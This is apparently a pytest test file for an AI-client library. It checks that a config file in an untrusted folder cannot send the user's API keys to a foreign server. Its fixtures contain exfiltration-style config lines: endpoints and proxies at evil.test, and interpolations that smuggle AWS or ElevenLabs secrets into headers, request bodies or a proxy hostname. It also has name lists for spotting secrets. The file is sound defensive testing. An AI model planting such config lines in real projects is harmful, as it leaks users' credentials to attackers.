"""What a stranger's file, and a stranger's server, can not do to the keys of whoever meets them."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from gen_ai import ConfigurationError, create_client
from gen_ai.providers.credentials import is_secret_of_others
from gen_ai.secrets import names_key

from .client.test_secrets import shown
from .support.server import Server

SECRET = "s3cret-0123456789"
EVIL = 'endpoint = "https://evil.test/v1"\nmodel_name = "m"\n'
OWN = f"""
[profiles.gateway]
provider = "openai"
endpoint = "https://gateway.test/v1"
api_key = ""
headers = {{ X-Gateway-Token = "{SECRET}" }}
model_name = "m"
[profiles.body]
provider = "openai"
endpoint = "https://gateway.test/v1"
api_key = ""
extra_body = {{ auth = {{ api_key = "{SECRET}" }} }}
model_name = "m"
[profiles.lax]
provider = "openai"
endpoint = "https://10.0.0.3/v1"
api_key = "{SECRET}"
verify = false
model_name = "m"
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of a stranger, entered by somebody with keys."""
    own = tmp_path / "config" / "gen_ai" / "gen_ai.toml"
    own.parent.mkdir(parents=True)
    own.write_text(OWN, encoding="utf-8")
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    monkeypatch.chdir(project)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    for name in ("OPENAI_API_KEY", "ELEVENLABS_API_KEY", "AWS_SECRET_ACCESS_KEY", "GEN_AI_API_KEY", "MY_KEY"):
        monkeypatch.setenv(name, SECRET)
    return project


def strange(folder: Path, lines: str, inherits: str = "") -> None:
    parent = f'inherits = "{inherits}"' if inherits else 'provider = "openai"'
    (folder / "gen_ai.toml").write_text(f"[profiles.default]\n{parent}\n{lines}\n", encoding="utf-8")


def refused(**arguments: Any) -> ConfigurationError:
    """The error; no frame of it shows the key."""
    with pytest.raises(ConfigurationError) as caught:
        create_client(**arguments)
    for place, text in shown(caught.value):
        assert SECRET not in text, place
    return caught.value


def test_a_strangers_file_may_name_a_key_for_its_endpoint(folder: Path) -> None:
    strange(folder, EVIL + 'api_key_env = "MY_KEY"')
    create_client().close()


@pytest.mark.parametrize("name", ["ELEVENLABS_API_KEY", "AWS_SECRET_ACCESS_KEY", "GEN_AI_API_KEY", "OPENAI_API_KEY"])
@pytest.mark.parametrize("line", ['api_key_env = "{}"', 'api_key = "${{{}}}"'])
def test_but_none_that_belongs_to_something_else(folder: Path, name: str, line: str) -> None:
    strange(folder, EVIL + line.format(name))
    assert f"{name} holds a secret" in refused().message


@pytest.mark.parametrize(
    "line",
    [
        'headers = { X-A = "${AWS_SECRET_ACCESS_KEY}" }',
        'extra_body = { a = ["${AWS_SECRET_ACCESS_KEY:-x}"] }',
        'user = "${ELEVENLABS_API_KEY}"',
        'proxy = "http://${AWS_SECRET_ACCESS_KEY}.evil.test"',
        'capabilities = { refused = ["${AWS_SECRET_ACCESS_KEY}"] }',
    ],
)
def test_a_secret_of_something_else_stands_nowhere_in_it(folder: Path, line: str) -> None:
    strange(folder, line)
    error = refused()
    assert error.message.startswith("gen_ai.toml:3: profiles.default.")
    assert "holds a secret" in error.message
    assert "GEN_AI_CONFIG" in str(error.suggestion)


def test_your_own_file_may_name_any(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    strange(folder, EVIL + 'api_key_env = "AWS_SECRET_ACCESS_KEY"\nuser = "${ELEVENLABS_API_KEY}"')
    monkeypatch.setenv("GEN_AI_CONFIG", str(folder / "gen_ai.toml"))
    create_client().close()


@pytest.mark.parametrize(
    ("inherits", "lines", "told"),
    [
        ("gateway", 'endpoint = "https://evil.test/v1"', "headers"),
        ("body", 'endpoint = "https://evil.test/v1"', "extra_body"),
        ("gateway", "verify = false", "headers"),
        ("lax", 'proxy = "http://evil.test"', "proxy"),
        ("lax", 'headers = { Host = "evil.test" }', "headers"),
    ],
)
def test_a_profile_of_yours_that_it_inherits_keeps_its_keys(folder: Path, inherits: str, lines: str, told: str) -> None:
    strange(folder, lines, inherits)
    error = refused()
    assert told in error.message
    assert "found by searching" in error.message


@pytest.mark.parametrize(
    "arguments",
    [
        {"headers": {"X-Auth-Token": SECRET}},
        {"extra_headers": {"Ocp-Apim-Subscription-Key": SECRET}},
        {"extra_body": {"data_sources": [{"access_token": SECRET}]}},
    ],
)
def test_keys_in_arguments_do_not_go_to_its_endpoint(folder: Path, arguments: dict[str, Any]) -> None:
    strange(folder, EVIL + 'api_key = ""')
    with pytest.raises(ConfigurationError, match=rf"endpoint comes from gen_ai\.toml:3.*{next(iter(arguments))}"):
        create_client(**arguments)


def test_nor_do_keys_in_the_headers_of_a_call(folder: Path) -> None:
    with Server() as server:
        strange(
            folder, f'endpoint = "{server.url}/v1"\nmodel_name = "m"\nextra_headers = {{ X-Api-Key = "its-own" }}\n'
        )
        with (folder / "gen_ai.toml").open("a", encoding="utf-8") as file:
            file.write('api_key = ""\n')
        with create_client() as client:
            headers = {"Authorization": f"Bearer {SECRET}"}
            for ask in (
                lambda: client.run_chat_completions("hi", extra_headers=headers),
                lambda: client.with_options(extra_headers=headers).run_chat_completions("hi"),
                lambda: client.list_models(extra_headers=headers),
            ):
                with pytest.raises(ConfigurationError, match=r"Authorization carries a key.*gen_ai\.toml:3"):
                    ask()
            assert not server.requests
            server.reply(json={"data": []})
            assert client.list_models() == []
            assert server.last.headers["x-api-key"] == "its-own"


def test_a_proxy_without_checked_certificates_reads_along(folder: Path) -> None:
    strange(folder, 'proxy = "http://evil.test:80"\nmodel_name = "m"')
    create_client().close()
    assert "proxy" in refused(verify=False).message


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("GITHUB_TOKEN", True), ("npm_token", True), ("DATABASE_URL", True), ("MY_DB_PASSWORD", True),
        ("AZURE_CLIENT_SECRET", True), ("SLACK_WEBHOOK_URL", True), ("ELEVENLABS_API_KEY", True), ("SENTRY_DSN", True),
        ("MY_KEY", False), ("TEAM_LLM_TOKEN", False), ("AWS_REGION", False), ("GITHUB_REPOSITORY", False),
        ("HOME", False), ("CF_ACCESS_CLIENT_SECRET", False), ("LLM_URL", False),
    ],
)  # fmt: skip
def test_secrets_of_others_are_known_by_their_names(name: str, secret: bool) -> None:
    assert is_secret_of_others(name) is secret


@pytest.mark.parametrize(
    ("name", "key"),
    [
        ("authorization", True), ("Proxy-Authorization", True), ("cf-aig-authorization", True), ("X-Api-Key", True),
        ("apikey", True), ("Helicone-Auth", True), ("Cookie", True), ("X-Amz-Security-Token", True),
        ("X-Author", False), ("X-Team", False), ("X-Max-Tokens", False), ("Idempotency-Key", False),
        ("X-Monkey", False),
    ],
)  # fmt: skip
def test_headers_with_keys_are_known_by_their_names(name: str, key: bool) -> None:
    assert names_key(name) is key
